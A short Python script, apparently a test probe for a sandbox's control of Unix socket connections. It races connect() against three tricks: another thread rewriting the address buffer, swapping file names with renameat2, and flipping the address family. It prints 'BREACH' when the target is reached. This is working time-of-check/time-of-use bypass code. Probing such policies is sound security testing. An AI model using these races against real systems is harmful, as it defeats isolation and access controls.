import ctypes, os, socket, struct, sys, threading
target = sys.argv[1]
libc = ctypes.CDLL(None, use_errno=True)
own = os.path.join(os.path.dirname(target), "own")
s = socket.socket(socket.AF_UNIX); s.bind(own); s.listen(4096)
pad = max(len(own), len(target)) + 1
texts = [struct.pack("H", 1) + os.fsencode(p).ljust(pad, b"\0") for p in (own, target)]
buf = ctypes.create_string_buffer(texts[0]); stop = False
def turn_address():
    while not stop:
        for x in texts: ctypes.memmove(buf, x, len(x))
def turn_name():
    b = [os.fsencode(p) for p in (own, target)]
    while not stop: libc.renameat2(-100, b[0], -100, b[1], 2)
def turn_family():
    while not stop:
        for f in (2, 1): ctypes.memmove(buf, struct.pack("H", f), 2)
def drain():
    while not stop:
        try: s.accept()[0].close()
        except OSError: return
for turn in turn_address, turn_name, turn_family:
    stop = False; ok = 0; ctypes.memmove(buf, texts[0], len(texts[0]))
    ts = [threading.Thread(target=f, daemon=True) for f in (turn, drain)]
    for t in ts: t.start()
    n = int(sys.argv[2])
    for i in range(100 * n):
        if i >= n and ok: break # its own socket was reached too
        c = socket.socket(socket.AF_UNIX); c.settimeout(5)
        if libc.connect(c.fileno(), buf, len(texts[0])) == 0:
            ok += 1
            try:
                if b"BREACH" in c.recv(10): print("BREACH", turn.__name__, flush=True)
            except OSError: pass
        c.close()
    stop = True; ts[0].join()
    print(turn.__name__, "connected", ok > 0, flush=True)
os._exit(0)
